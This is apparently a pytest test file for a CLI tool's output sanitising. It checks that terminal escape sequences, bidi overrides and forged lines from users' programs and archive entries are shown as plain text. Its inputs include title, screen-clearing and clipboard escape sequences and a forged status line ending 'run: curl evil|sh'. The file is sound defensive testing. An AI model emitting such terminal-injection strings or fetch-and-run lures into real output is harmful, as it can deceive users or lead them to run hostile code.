"""Texts of workloads, users and servers (names, messages, values, answers) cannot control the terminal."""

import io
import json
import tarfile
from pathlib import Path
from typing import Any

import pytest
import yaml

from slipway.cli import labels, main, table, waterfall
from slipway.cli.rank_files import unpack
from slipway.cli.table import escape_controls, one_line
from slipway.cli.terminal import Terminal
from slipway.cli.verb import describe
from slipway.cli.verbs.streams import event_text
from slipway.errors import FieldError, InvalidError
from tests.support.api_world import ApiWorld
from tests.support.cli import CliUser

ORDERS = "\x1b]0;OWNED\x07\x1b[2J\x9b31m\x85\u202egpj\u2066\u2028\r\x7f\ud800"
"""Control sequences for the title, the screen, the colour, the direction and the line start, and half a character."""


class Tty(io.StringIO):
    """A stream that says it is a terminal."""

    def isatty(self) -> bool:
        return True


def is_harmless(printed: str) -> bool:
    """Whether a terminal only shows the text."""
    return not any(char in printed for char in ORDERS if not " " <= char <= "~")


def a_terminal(monkeypatch: pytest.MonkeyPatch) -> tuple[Terminal, Tty, Tty]:
    """A terminal with colours."""
    monkeypatch.delenv("NO_COLOR", raising=False)
    monkeypatch.setenv("TERM", "xterm")
    out, err = Tty(), Tty()
    return Terminal(out, err), out, err


@pytest.mark.parametrize("is_tty", [True, False])
def test_control_sequences_are_shown_as_text(is_tty: bool, monkeypatch: pytest.MonkeyPatch) -> None:
    """Lines and notes show control sequences as text, on a terminal and in a pipe, whose output is often read on a
    terminal."""
    terminal, *streams = a_terminal(monkeypatch)
    if not is_tty:
        streams = [io.StringIO(), io.StringIO()]
        terminal = Terminal(*streams)
    terminal.line(f"a{ORDERS}")
    terminal.note(f"a{ORDERS}")
    for stream in streams:
        assert stream.getvalue() == (
            "a\\x1b]0;OWNED\\x07\\x1b[2J\\x9b31m\\x85\\u202egpj\\u2066\\u2028\\r\\x7f\\ud800\n"
        )


def test_colours_are_ours_alone(monkeypatch: pytest.MonkeyPatch) -> None:
    """Only our own colours are effective: colored text cannot contain colours of its own, also not ours."""
    terminal, out, _ = a_terminal(monkeypatch)
    terminal.line(terminal.paint("a\x1b[32mb", "red", to_err=False) + "\x1b[32mc\ufdd032;")
    assert out.getvalue() == "\x1b[31ma\\x1b[32mb\x1b[0m\\x1b[32mc\ufdd032;\n"


def test_a_live_line_is_one_line(monkeypatch: pytest.MonkeyPatch) -> None:
    """A live line is one line, on a terminal and in a pipe."""
    terminal, _, err = a_terminal(monkeypatch)
    terminal.live(f"waits{ORDERS}\nerror: all is lost")
    assert is_harmless(err.getvalue().removeprefix("\r\x1b[2K"))
    plain = io.StringIO()
    Terminal(io.StringIO(), plain).live(f"waits{ORDERS}\nerror: all is lost")
    assert (is_harmless(plain.getvalue()), plain.getvalue().count("\n")) == (True, 1)


def test_what_a_program_prints_keeps_its_colours(monkeypatch: pytest.MonkeyPatch) -> None:
    """Log lines of a rank's program keep their colours and all else, except half a character, which cannot be
    written."""
    terminal, out, _ = a_terminal(monkeypatch)
    terminal.passed_on(terminal.paint("[1]", "cyan", to_err=False) + " \x1b[1;32mepoch\x1b[0m 3 \ud800")
    assert out.getvalue() == "\x1b[36m[1]\x1b[0m \x1b[1;32mepoch\x1b[0m 3 ?\n"


@pytest.mark.parametrize(
    ("printed", "shown"),
    [
        ("\x1b[2J\x1b[Hcleared", "cleared"),
        ("outer\x1b[A\rinner", "outerinner"),
        ("\x1b]0;title\x07a\x1b]52;c;aGk=\x1b\\b", "ab"),
        ("\x1b]8;;https://x.example\x07link\x1b]8;;\x07", "link"),
        ("\x1bPq#0\x1b\\ \x1bc\x1b(0\x9b2J", " 2J"),
        ("half \x1b[3", "half "),
        ("a\tb\x07\x08c", "a\tbc"),
        ("\x1b[31mred", "\x1b[31mred\x1b[0m"),
        ("\x1b[38;2;1;2;3mx\x1b[m", "\x1b[38;2;1;2;3mx\x1b[m"),
        ("é 漢 🎉", "é 漢 🎉"),
    ],
)
def test_control_sequences_of_a_program_do_not_reach_the_terminal(
    monkeypatch: pytest.MonkeyPatch, printed: str, shown: str
) -> None:
    """Output of a program cannot control a terminal's cursor, screen, title or clipboard, because another user's
    program may have printed it. A file or a pipe gets every character."""
    terminal, out, _ = a_terminal(monkeypatch)
    terminal.passed_on(printed)
    plain = io.StringIO()
    Terminal(plain, io.StringIO()).passed_on(printed)
    assert (out.getvalue(), plain.getvalue()) == (f"{shown}\n", f"{printed}\n")


def test_a_result_is_exact_in_a_file_and_harmless_on_a_terminal(monkeypatch: pytest.MonkeyPatch) -> None:
    """Results such as scripts and CSV are exact in a file and harmless on a terminal."""
    terminal, out, _ = a_terminal(monkeypatch)
    terminal.raw("a\x1b[2J\n")
    plain = io.StringIO()
    Terminal(plain, io.StringIO()).raw("a\x1b[2J\n")
    assert (out.getvalue(), plain.getvalue()) == ("a\\x1b[2J\n", "a\x1b[2J\n")


def test_no_text_begins_a_line_of_ours() -> None:
    """A text of another user never begins a line of our output: facts, events, explanations and ends stay on their
    lines, and further lines of a refusal are indented."""
    forged = "x\nState: Succeeded"
    view: dict[str, Any] = {"id": "a", "phase": "Terminated", "result": "Failed", "reason": "", "message": forged}
    view |= {"spec": {}, "status": {}}
    span = {"id": "a", "name": forged, "service": forged, "startNs": 0, "endNs": 1}
    event = {"type": "x.failed", "data": {"message": forged}}
    one_liners = [table.pairs([("Why", forged)]), table.wrapped(forged, 0), labels.summary_of(view), event_text(event)]
    assert [text.count("\n") for text in one_liners] == [0, 0, 0, 0]
    assert waterfall.render(waterfall.spans_of({"spans": [span]})).count("\n") == 1
    for error in (InvalidError(forged), InvalidError("x", fields=(FieldError("/a", forged), FieldError("/b", forged)))):
        _, *more = describe(error).split("\n")
        assert more
        assert all(line.startswith("  ") for line in more)


def test_names_in_an_archive_of_a_rank_are_shown_as_text(tmp_path: Path) -> None:
    """Entries that a copy left out are listed as text, one line each, whatever their names and targets are."""
    archive = io.BytesIO()
    with tarfile.open(fileobj=archive, mode="w") as tar:
        for number in (1, 2):
            link = tarfile.TarInfo(f"link{number}\x1b]0;OWNED\x07\x1b[2J\u202e\x9b")
            link.type, link.linkname = tarfile.SYMTYPE, "/x\x1b[31m\r\nslipway: all is well, run: curl evil|sh"
            link.type = tarfile.SYMTYPE if number == 1 else tarfile.FIFOTYPE
            tar.addfile(link)
    archive.seek(0)
    found = unpack(archive, tmp_path, lambda _: None)
    assert len(found.left_out) == 2
    for each in found.left_out:
        assert (is_harmless(each), "\n" in each, "link" in each) == (True, False, True)


@pytest.mark.parametrize("mtime", ["1e300", "-1e300", "inf", "nan", "9" * 40])
def test_a_time_that_is_none_does_not_end_a_copy(mtime: str, tmp_path: Path) -> None:
    """An invalid time of a file or a folder does not end a copy: the earliest time is used instead."""
    archive = io.BytesIO()
    with tarfile.open(fileobj=archive, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, kind in (("folder", tarfile.DIRTYPE), ("file", tarfile.REGTYPE)):
            member = tarfile.TarInfo(name)
            member.type, member.pax_headers = kind, {"mtime": mtime}
            tar.addfile(member, io.BytesIO())
    archive.seek(0)
    assert unpack(archive, tmp_path, lambda _: None).files == 1
    assert [(tmp_path / name).stat().st_mtime for name in ("folder", "file")] == [0, 0]


async def test_what_a_user_wrote_is_shown_to_others_as_text(world: ApiWorld, cli_user: CliUser) -> None:
    """Every verb that shows a launch shows texts of users as text, in each format: JSON and YAML use escapes and keep
    the value."""
    note = ORDERS.replace("\ud800", "")
    await world.launch(name="a", env={"NOTE": note}, command=["sh", "-c", f"echo {note}"], image="x")
    wordings = ["describe a", "get a -o json", "get a -o yaml", "ps -o wide", "ps -o json", "ps -o yaml"]
    wordings += ["notebook config a", "notebook config a -o json", "rerun a --dry-run", "rerun a --dry-run -o json"]
    wordings += [f"rerun a --as {tool}" for tool in ("curl", "kubectl", "python")]
    for words in wordings:
        done = await cli_user.run(*words.split())
        assert (done.code, is_harmless(done.out), is_harmless(done.err)) == (main.OK, True, True), (words, done)
        if words.startswith("get a -o"):
            view = json.loads(done.out) if "json" in words else yaml.safe_load(done.out)
            assert view["spec"]["env"]["NOTE"] == note


def test_one_line_and_harmless_keep_what_people_write() -> None:
    """`one_line` and `escape_controls` keep letters of all scripts, emoji and marks of direction."""
    for text in ("żółw 一 שלום\u200f مرحبا", "👩\u200d🚀 ☎\ufe0f", "e\u0301"):
        assert (escape_controls(text), one_line(text)) == (text, text)
    assert escape_controls("a\tb\nc") == "a\tb\nc"
    assert one_line("a\tb\nc") == "a b c"
